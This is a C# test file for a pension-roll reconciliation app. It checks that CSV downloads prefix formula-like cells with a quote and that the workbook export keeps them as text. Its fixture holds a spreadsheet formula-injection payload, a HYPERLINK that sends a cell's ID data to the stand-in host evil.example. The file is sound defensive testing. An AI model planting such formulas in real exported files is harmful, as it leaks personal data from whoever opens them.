using System.Globalization;
using System.Net;
using System.Text;
using Hereafter.Domain.Reconciliation;
using Hereafter.Web.Tests.Infrastructure;
using Hereafter.Web.Tests.Sharing;

namespace Hereafter.Web.Tests.Reconciliation;

/// <summary>A roll whose cells look like spreadsheet formulas downloads as text a spreadsheet will not run.</summary>
public sealed class CsvDownloadFormulaTests(HereafterFactory factory) : IClassFixture<HereafterFactory>
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&C2,\"点此核对\")";

    [Fact]
    public async Task ANameLikeHyperlink_DownloadsWithALeadingQuote_AmountsStayNumbers_TheWorkbookKeepsTheText()
    {
        var dead = People.Next();
        var other = People.Next();
        await factory.IssueAsync(dead);
        await factory.IssueAsync(other);
        var paid = YearMonth.Of(DateOnly.FromDateTime(DateTime.UtcNow.Date)).AddMonths(2).ToString();
        // The first ID belongs to a death under another name: the row goes to review with the roll's name in it.
        var roll = new StringBuilder("身份证号,姓名,出生日期,月发放金额,已发放至,项目,账号\n")
            .Append(CultureInfo.InvariantCulture, $"{dead.IdNumber},\"{Hyperlink.Replace("\"", "\"\"", StringComparison.Ordinal)}\",,800.00,{paid},,\n")
            .Append(CultureInfo.InvariantCulture, $"{other.IdNumber},@SUM(1+1),,100.00,{paid},,\n")
            .ToString();
        var clerk = await factory.ClientForAsync("demo-social-security");
        var id = await clerk.UploadAcceptedAsync("enterprise-pension", roll);
        Assert.Equal("completed", (await clerk.WaitFinishedAsync(id)).GetProperty("status").GetString());

        var response = await clerk.GetAsync($"/api/v1/reconciliation/rolls/{id}/review.csv?culture=en");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var lines = (await response.Content.ReadAsStringAsync()).Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(ResultFilesSink.ReviewHeader, lines[0]);
        Assert.Equal(3, lines.Length);
        var hyperlinkRow = Assert.Single(lines, l => l.StartsWith("2,", StringComparison.Ordinal));
        Assert.StartsWith($"2,id-match-name-differs,{dead.IdNumber},\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&C2,\"\"点此核对\"\")\",enterprise-pension,,800.00,{paid},", hyperlinkRow);
        var sumRow = Assert.Single(lines, l => l.StartsWith("3,", StringComparison.Ordinal));
        Assert.StartsWith($"3,id-match-name-differs,{other.IdNumber},'@SUM(1+1),enterprise-pension,,100.00,", sumRow);
        // No cell of the download starts like a formula.
        foreach (var line in lines.Skip(1))
        {
            using var reader = new StringReader(line);
            var cells = Hereafter.Web.Modules.Reconciliation.Features.DownloadResults.CsvFields.ReadRecord(reader)!;
            Assert.All(cells, c => Assert.False(c.Length > 0 && c[0] is '=' or '+' or '@' or '\t' or '\r', $"'{c}' starts like a formula"));
            Assert.All(cells.Where(c => c.StartsWith('-')), c => Assert.True(decimal.TryParse(c, NumberStyles.Number, CultureInfo.InvariantCulture, out _), c));
        }

        // The workbook's cells are inline text, never evaluated: it shows the name as the roll had it.
        var sheet = ReconcileRollTests.ReadSheet(await (await clerk.GetAsync($"/api/v1/reconciliation/rolls/{id}/review.xlsx")).Content.ReadAsByteArrayAsync());
        Assert.Contains(sheet, r => r.Length > 3 && r[3] == Hyperlink);
    }
}
